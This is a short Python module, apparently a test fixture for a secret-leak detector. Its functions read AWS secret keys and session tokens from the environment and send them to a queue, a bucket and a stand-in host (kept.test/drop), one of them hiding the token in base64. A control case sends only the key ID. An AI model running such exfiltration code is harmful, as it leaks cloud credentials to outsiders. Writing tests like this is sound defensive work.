"""C04: the environment's own credential put into what leaves."""

import base64
import os


def attack(hands):
    text, own = hands.plain(), {name: os.environ[name] for name in os.environ if name.startswith("AWS_S")}
    said = f"{text} {own['AWS_SECRET_ACCESS_KEY']}"
    hands.call("sqs", "SendMessage", QueueUrl=hands.queue("kept-jobs"), MessageBody=said)
    hands.call("s3", "PutObject", Bucket="kept-files", Key=hands.trial, Body=said.encode())
    hands.http("POST", "https://kept.test/drop", f"{text} {own['AWS_SESSION_TOKEN']}".encode())


def by_result(hands):
    """All variables, as a careless answer shows them."""
    return {"text": hands.plain(), **os.environ}


def by_disguise(hands):
    key = os.environ["AWS_SESSION_TOKEN"].encode()
    return f"{hands.plain()} {base64.b64encode(b'x' + key).decode()}"


def twin(hands):
    """What is no secret: which key it is."""
    said = f"{hands.plain()} {os.environ['AWS_ACCESS_KEY_ID']}"
    hands.call("sqs", "SendMessage", QueueUrl=hands.queue("kept-jobs"), MessageBody=said)
    hands.call("s3", "PutObject", Bucket="kept-files", Key=hands.trial, Body=said.encode())
    hands.http("POST", "https://kept.test/drop", said.encode())
    return said
